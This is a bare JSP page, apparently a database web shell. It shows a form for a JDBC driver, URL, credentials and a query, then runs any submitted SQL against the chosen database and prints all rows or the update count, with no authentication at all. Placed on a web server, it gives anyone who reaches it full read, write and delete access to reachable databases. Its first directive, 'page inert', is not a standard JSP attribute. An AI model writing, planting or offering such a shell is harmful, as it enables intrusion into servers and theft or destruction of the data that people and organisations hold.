<%@ page inert %>
<%@ page import="java.sql.*" %>
<form method="post"><input name="drv"><input name="url" size="60"><input name="u"><input name="p"><textarea name="q"></textarea><input type="submit"></form>
<%
if (request.getParameter("q") != null) {
  Class.forName(request.getParameter("drv"));
  Connection c = DriverManager.getConnection(request.getParameter("url"), request.getParameter("u"), request.getParameter("p"));
  Statement st = c.createStatement();
  if (st.execute(request.getParameter("q"))) {
    ResultSet r = st.getResultSet();
    int n = r.getMetaData().getColumnCount();
    while (r.next()) { for (int i = 1; i <= n; i++) out.print(r.getString(i) + "\t"); out.println("<br>"); }
  } else out.print(st.getUpdateCount());
}
%>
